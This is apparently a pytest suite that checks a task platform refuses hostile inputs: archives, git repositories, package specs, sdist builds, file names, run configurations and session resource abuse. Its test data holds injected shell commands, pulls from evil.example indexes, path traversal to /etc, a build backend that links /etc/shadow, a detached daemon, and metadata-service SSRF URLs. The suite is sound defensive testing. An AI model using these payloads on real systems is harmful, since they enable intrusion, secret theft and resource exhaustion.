"""The hostile-input corpus of what Crucible takes from outside (issue 28): archives, repositories,
package specs and builds, names, run configurations and sessions' resources.

Every case must be refused with a message that says why (or, where the input is only odd, taken
with its hostile part left out), and:

* nothing of it ran on the host: commands a case arms (git filters, hooks, build backends) touch
  files in a markers directory outside any sandbox, which must stay empty (the cases that are
  taken also show the honest path works: the files are the commit's or the archive's);
* no request got a 500: cases sent through the API answer 400 or 404, and the pages and API of
  what was taken answer 200.

The specific failures of issue 28 have their own tests (named in its report); this is the wide net.
"""

from __future__ import annotations

import gzip
import json
import threading
from concurrent.futures import ThreadPoolExecutor
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.test import override_settings

from sandboxes import cgroups
from sandboxes import result as R
from sandboxes.environments.build import materialise
from sandboxes.environments.source_build import install_in_sandbox
from sandboxes.environments.spec import parse
from sandboxes.environments.store import EnvironmentBuildError, EnvironmentStore
from sandboxes.sessions import SessionLimits, SessionRefused, Workspace, open_session
from tasks_library.importers import ImportFormatError
from tasks_library.importers.crucible import examples_path
from tasks_library.importers.repository_source import RepositorySourceError, tree_at
from tasks_library.models import EnvironmentVersion, Task, TaskVersion
from tasks_library.repositories import repository_tasks_import
from tests.allocations import peak_allocated
from tests.console.test_run_launch_form import launched, one_task_set  # noqa: F401 (fixture)
from tests.console.test_runs_api import operator  # noqa: F401 (fixture)
from tests.package_index import hostile_index
from tests.sandboxes.conftest import started_session_pool
from tests.security.hostile_archives import ARCHIVES, PROJECT
from tests.security.hostile_repositories import PROJECT as REPO_PROJECT
from tests.security.hostile_repositories import REPOSITORIES
from tests.tasks_library.conftest import client_for, curator, roles  # noqa: F401 (fixtures)
from tests.tasks_library.repository_helpers import BUGGY, record
from tests.tasks_library.test_import_swe_bench import row, run

MIB = 1024**2


def empty(markers: Path) -> None:
    """Nothing armed ran here: the markers directory has nothing in it."""
    found = sorted(p.name for p in markers.iterdir()) if markers.is_dir() else []
    assert found == [], f"commands of the input ran on the host: {found}"


# --- archives (27) --------------------------------------------------------------------------------


@pytest.mark.parametrize("case", sorted(ARCHIVES))
def test_archive(case, tmp_path):
    build, refusal = ARCHIVES[case]
    archive = build(tmp_path)
    if refusal is None:
        files = tree_at(archive, None)
        assert files == PROJECT, sorted(files)  # the hostile part left out, the rest as is
        return
    with pytest.raises(RepositorySourceError) as caught:
        tree_at(archive, None)
    message = str(caught.value)
    assert refusal in message and message.isprintable() and len(message) < 2000, message


# --- repositories (18, and the pages of one imported) ---------------------------------------------


@pytest.mark.parametrize("case", sorted(REPOSITORIES))
def test_repository(case, tmp_path):
    build, refusal = REPOSITORIES[case]
    markers = tmp_path / "markers"
    markers.mkdir()
    root, commit = build(tmp_path / "repo", markers)
    if refusal is None:
        files = tree_at(root, commit)
        # the commit's own bytes: no filter, no replace ref, no graft; links and submodules out
        assert {k: v for k, v in files.items() if k in REPO_PROJECT} == REPO_PROJECT
        assert not {"passwd", "sub"} & set(files)
    else:
        with pytest.raises(RepositorySourceError) as caught:
            tree_at(root, commit)
        assert refusal in str(caught.value) and str(caught.value).isprintable(), caught.value
    empty(markers)


@pytest.mark.django_db
def test_an_imported_hostile_repository_serves_its_pages(tmp_path, write_jsonl, curator, client):
    from tests.tasks_library.hostile_git import hostile_repository  # noqa: PLC0415 (one case)

    markers = tmp_path / "markers"
    commit = hostile_repository(tmp_path / "calc", BUGGY, markers)
    run(write_jsonl([row(commit)], "swe.jsonl"), tmp_path / "calc")
    page_client, client = client, client_for(curator)
    api = "/api/tasks/acme__calc-1/versions/1/"
    for path in ("", "calc/ops.py", ".gitattributes", "../../etc/passwd", "a" * 5000, "\x00"):
        answer = client.get(api + "files/", {"path": path})
        assert answer.status_code in (200, 404), (path, answer.status_code)
    assert client.get(api).status_code == 200
    page_client.force_login(curator)
    for path in ("", "calc/ops.py", "../../etc/passwd", "\x00"):
        assert page_client.get("/tasks/acme__calc-1/", {"path": path}).status_code == 200
    empty(markers)


# --- package specs (API, 17) ----------------------------------------------------------------------

BAD_SPECS = {
    "a URL requirement": ("python3.11", ["calc @ https://evil.example/calc-1.0-py3-none-any.whl"]),
    "a VCS requirement": ("python3.11", ["git+https://evil.example/calc.git#egg=calc"]),
    "a range": ("python3.11", ["numpy>=1"]),
    "an editable install": ("python3.11", ["-e ."]),
    "an index option": ("python3.11", ["--index-url http://evil.example/simple"]),
    "an extra index option": ("python3.11", ["--extra-index-url=http://evil.example/simple"]),
    "a requirements file": ("python3.11", ["-r /etc/passwd"]),
    "a build option": ("python3.11", ["calc==1.0 --config-settings=--build-option=--evil"]),
    "a hash of another algorithm": ("python3.11", ["calc==1.0 --hash=md5:" + "0" * 32]),
    "a NUL in a pin": ("python3.11", ["calc==1.0\x00evil"]),
    "a 10,000-character line": ("python3.11", ["calc==" + "1" * 10_000 + "x"]),
    "an npm git URL": ("node20", ["evil@git+https://evil.example/evil.git"]),
    "an npm shell command": ("node20", ["evil@1.0.0 && touch /tmp/crucible-npm"]),
    "an npm path": ("node20", ["../evil@1.0.0"]),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", sorted(BAD_SPECS))
def test_a_package_spec_is_refused_with_400(case, curator):
    runtime, packages = BAD_SPECS[case]
    reply = client_for(curator).post(
        "/api/environments/",
        {"name": "evil", "runtime": runtime, "packages": packages},
        format="json",
    )
    assert reply.status_code == 400, (reply.status_code, reply.content[:300])
    assert reply.json()["field"] == "packages"
    assert not EnvironmentVersion.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("runtime", "flag"), [("python3.13", True), ("node20", True), ("python3.11", {"a": 1})]
)
def test_source_builds_where_none_can_run_is_refused_with_400(curator, runtime, flag):
    reply = client_for(curator).post(
        "/api/environments/",
        {"name": "evil", "runtime": runtime, "packages": [], "source_builds": flag},
        format="json",
    )
    assert reply.status_code == 400, reply.content
    assert reply.json()["field"] == "source_builds"


# --- package builds (4) ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def index(tmp_path_factory):
    """A package index of hostile sdists (each backend touches markers if it runs here); pip
    here and in the build sandbox use it and nothing else."""
    link_out = (  # each of pip's hooks imports the backend again: the link is made once
        "import os\nos.makedirs('/tmp/build/out/site-packages', exist_ok=True)\n"
        "if not os.path.lexists('/tmp/build/out/site-packages/shadow'):\n"
        "    os.symlink('/etc/shadow', '/tmp/build/out/site-packages/shadow')\n"
    )
    daemon = (  # a double fork, detached from the build's session and its pipes
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        null = os.open('/dev/null', os.O_RDWR)\n"
        "        for fd in (0, 1, 2):\n            os.dup2(null, fd)\n"
        "        os.execvp('sleep', ['sleep', 'crucible-daemon-600'])\n    os._exit(0)\n"
        "PROBES['daemon'] = 'started'\n"
    )
    packages = {
        "evilcalc": "",
        "linkcalc": link_out,
        "slowcalc": "import time\ntime.sleep(600)\n",
        "daemoncalc": daemon,
    }
    root = tmp_path_factory.mktemp("hostile-index")
    with pytest.MonkeyPatch.context() as patch, hostile_index(root, patch, packages) as found:
        yield found[1]


def test_an_sdist_only_package_is_refused_wheels_only(index, tmp_path):
    with pytest.raises(EnvironmentBuildError, match="installs wheels only"):
        materialise(
            parse("python3.11", ["evilcalc==1.0"]),
            environment_store=EnvironmentStore(tmp_path / "store"),
        )
    empty(index)


def test_a_sandboxed_build_that_plants_a_link_is_refused(index, tmp_path):
    store = EnvironmentStore(tmp_path / "store")
    with pytest.raises(EnvironmentBuildError, match="'shadow', a symlink"):
        materialise(
            parse("python3.11", ["linkcalc==1.0"], source_builds=True), environment_store=store
        )
    assert store.published() == []
    empty(index)


def test_a_sandboxed_build_that_hangs_is_stopped(index, tmp_path):
    (tmp_path / "work" / "tree").mkdir(parents=True)
    with pytest.raises(EnvironmentBuildError, match="took more than 5 s"):
        install_in_sandbox(["slowcalc==1.0"], [], tmp_path / "work" / "tree", timeout_s=5)
    empty(index)


def test_a_sandboxed_build_leaves_no_process(index, tmp_path):
    import subprocess  # noqa: PLC0415 (this case alone lists the host's processes)

    tree = tmp_path / "work" / "tree"
    tree.mkdir(parents=True)
    code, log = install_in_sandbox(["daemoncalc==1.0"], [], tree, timeout_s=120)
    assert code == 0, log[-2000:]
    probes = json.loads((tree / "site-packages" / "probe.json").read_text())
    assert probes["daemon"] == "started"  # it did start, in the build
    listed = subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout
    assert "crucible-daemon" not in listed  # the daemon died with the build's pid namespace
    empty(index)


# --- names (12) -----------------------------------------------------------------------------------

BAD_FILE_NAMES = {
    "not UTF-8": "data/bad\udcff.csv",
    "a newline": "data/a\nb.csv",
    "an escape sequence": "data/\x1b[31mred.csv",
    "a bidirectional override": "data/a\u202evsc.txt",
    "DEL": "data/a\x7f.csv",
    "a carriage return": "data/a\rb.csv",
    "climbing out": "../../etc/cron.d/evil",
    "absolute": "/etc/cron.d/evil",
    "a NUL": "data/a\x00b.csv",
}


@pytest.fixture
def function_task(db):
    call_command("import_tasks", "--format", "crucible", str(examples_path()), stdout=StringIO())
    return TaskVersion.objects.order_by("pk").first()


@pytest.mark.parametrize("case", sorted(BAD_FILE_NAMES))
def test_a_file_name_is_refused_with_400(case, function_task, curator):
    body = {"change_note": "evil", "files": {BAD_FILE_NAMES[case]: "1\n"}}
    reply = client_for(curator).post(  # JSON escapes a lone surrogate as \udcff: it arrives
        f"/api/tasks/{function_task.task.task_id}/versions/",
        data=json.dumps(body),
        content_type="application/json",
    )
    assert reply.status_code == 400, (reply.status_code, reply.content[:300])
    assert TaskVersion.objects.filter(task=function_task.task).count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["../../x", "x\nRUN touch /tmp/crucible"])
def test_an_environment_name_is_refused_with_400(name, curator):
    reply = client_for(curator).post(
        "/api/environments/", {"name": name, "runtime": "python3.11"}, format="json"
    )
    assert reply.status_code == 400 and reply.json()["field"] == "name"


@pytest.mark.django_db
def test_a_test_id_naming_an_option_is_refused():
    files = {**BUGGY, "-p.py": b"def test_x():\n    pass\n"}
    with pytest.raises(ImportFormatError, match="starting with '-'"):
        repository_tasks_import([record(files=files, pass_to_pass=["-p.py::test_x"])])
    assert not Task.objects.exists()


# --- datasets (2) ---------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("command", ["import", "evaluate_samples"])
def test_a_gzip_of_one_endless_line_is_refused_unread(command, tmp_path):
    path = tmp_path / "rows.jsonl.gz"
    with gzip.open(path, "wb") as handle:  # 40 MiB of one line, in about 40 KB
        for _ in range(40):
            handle.write(b"a" * MIB)
    if command == "import":
        argv = ["import_tasks", "--format", "crucible", str(path)]
    else:
        call_command(
            "import_tasks", "--format", "crucible", str(examples_path()), "--taskset", "corpus",
            stdout=StringIO(),
        )  # fmt: skip
        argv = ["evaluate_samples", "--taskset", "corpus", str(path)]
    caught = {}

    def refused():
        with pytest.raises(CommandError) as error:
            call_command(*argv, stdout=StringIO(), stderr=StringIO())
        caught["message"] = str(error.value)

    peak = peak_allocated(refused)
    assert f"{path}:1: line is over the {16 * MIB} byte limit" in caught["message"]
    assert peak < 40 * MIB


# --- run configurations: secrets and host paths (6) -----------------------------------------------

BAD_CONFIGS = {
    "the monitor sends any variable": {"llm_monitor": {"url": "http://10.0.0.7", "model": "m",
                                                       "api_key_env": "DATABASE_URL"}},
    "the monitor at the metadata service": {"llm_monitor": {"url": "http://169.254.169.254/",
                                                            "model": "m"}},
    "the monitor on loopback through IPv6": {"llm_monitor": {"url": "http://[::ffff:127.0.0.1]/",
                                                             "model": "m"}},
    "the monitor on a name for loopback": {"llm_monitor": {"url": "http://localhost:6379/",
                                                           "model": "m"}},
    "sft_data outside its directory": {"sft_data": "/etc/passwd"},
    "model_path outside its directory": {"model_path": "/root"},
}  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("case", sorted(BAD_CONFIGS))
def test_a_run_configuration_is_refused_with_400(case, operator, launched):
    one_task_set("corpus-set")
    reply = operator.post(
        "/api/runs/",
        {"task_set": "corpus-set", "steps": 1, "config": BAD_CONFIGS[case]},
        format="json",
    )
    assert reply.status_code == 400, (reply.status_code, reply.content[:300])
    assert launched == []


# --- sessions' resources (5) ----------------------------------------------------------------------

SMALL = SessionLimits(
    memory_bytes=160 * MIB, workspace_bytes=16 * MIB, tmp_bytes=64 * MIB, shm_bytes=8 * MIB
)  # may write 88 MiB
WORKSPACE = Workspace.from_files({"a.txt": "a\n"})


@pytest.fixture(scope="module")
def budget_pool(tmp_path_factory):
    """A worker whose sessions may be 4 at once, use 320 MiB together, write 400 MiB."""
    with override_settings(
        SESSION_MAX_PER_WORKER=4,
        SESSION_MEMORY_BUDGET=320 * MIB,
        SESSION_DISK_BUDGET=400 * MIB,
    ):
        with started_session_pool(
            tmp_path_factory.mktemp("corpus-stores"), f"corpus-{threading.get_ident()}"
        ) as pool:
            yield pool


def test_opens_from_many_threads_never_exceed_the_count(budget_pool):
    def try_open(_):
        try:
            return open_session(WORKSPACE, limits=SMALL, runtime=budget_pool.runtime)
        except SessionRefused:
            return None

    with ThreadPoolExecutor(12) as pool:
        opened = [s for s in pool.map(try_open, range(12)) if s is not None]
    assert len(opened) == 4 and budget_pool.worker.budget.open == 4
    for session in opened:
        session.close()
    assert budget_pool.worker.budget.open == 0


def test_a_session_asking_more_memory_than_the_budget_is_refused(budget_pool):
    with pytest.raises(SessionRefused, match="CRUCIBLE_SESSION_MEMORY_BUDGET") as caught:
        open_session(
            WORKSPACE, limits=SessionLimits(memory_bytes=1024 * MIB), runtime=budget_pool.runtime
        )
    assert caught.value.kind == "capacity" and caught.value.status == R.INFRA_ERROR


def test_writable_space_and_workspaces_past_the_quota_are_refused(budget_pool):
    held = [open_session(WORKSPACE, limits=SMALL, runtime=budget_pool.runtime) for _ in "abc"]
    wide = SessionLimits(
        memory_bytes=320 * MIB, workspace_bytes=16 * MIB, tmp_bytes=168 * MIB, shm_bytes=8 * MIB
    )
    with pytest.raises(SessionRefused, match="CRUCIBLE_SESSION_DISK_BUDGET"):
        open_session(WORKSPACE, limits=wide, runtime=budget_pool.runtime)  # 264 + 192 > 400
    big = Workspace.from_files({"big.bin": b"\0" * (60 * MIB)})
    with pytest.raises(SessionRefused, match="a workspace of 62914560 bytes more"):
        open_session(big, limits=SMALL, runtime=budget_pool.runtime)  # 352 + 60 > 400
    for session in held:
        session.close()


def test_sessions_filling_every_tmpfs_stay_within_the_budget(budget_pool):
    budget = budget_pool.worker.budget
    if budget.cgroup is None:
        pytest.skip("no cgroups here (not root)")
    (budget.cgroup.paths["memory"] / "memory.max_usage_in_bytes").write_text("0")
    fill = (
        "for d in /tmp /dev/shm .; do for i in $(seq 1 30); do "
        "head -c 4M /dev/zero > $d/f$i 2>/dev/null || break; done; done; true"
    )
    sessions = [open_session(WORKSPACE, limits=SMALL, runtime=budget_pool.runtime) for _ in "abcd"]
    with ThreadPoolExecutor(4) as pool:
        results = list(pool.map(lambda s: s.exec(fill, timeout_s=60), sessions))
    # Each call ends, one way or another: its own memory limit, the budget's (the OOM killer in
    # the budget cgroup may take a session's init: that session is lost, an infra_error).
    outcomes = (R.OK, R.MEMORY_LIMIT, R.FAILED, R.CRASHED, R.INFRA_ERROR)
    assert all(r.status in outcomes for r in results), [r.status for r in results]
    peak = cgroups._read_int(budget.cgroup.paths["memory"] / "memory.max_usage_in_bytes")
    assert peak <= 320 * MIB
    for session in sessions:
        session.close()
    children = [p for p in budget.cgroup.paths["memory"].iterdir() if p.name.startswith("x-")]
    assert children == [] and budget.open == 0


def test_the_worker_serves_again_after_the_abuse(budget_pool):
    with open_session(WORKSPACE, limits=SMALL, runtime=budget_pool.runtime) as session:
        assert session.exec("cat a.txt").stdout == "a\n"
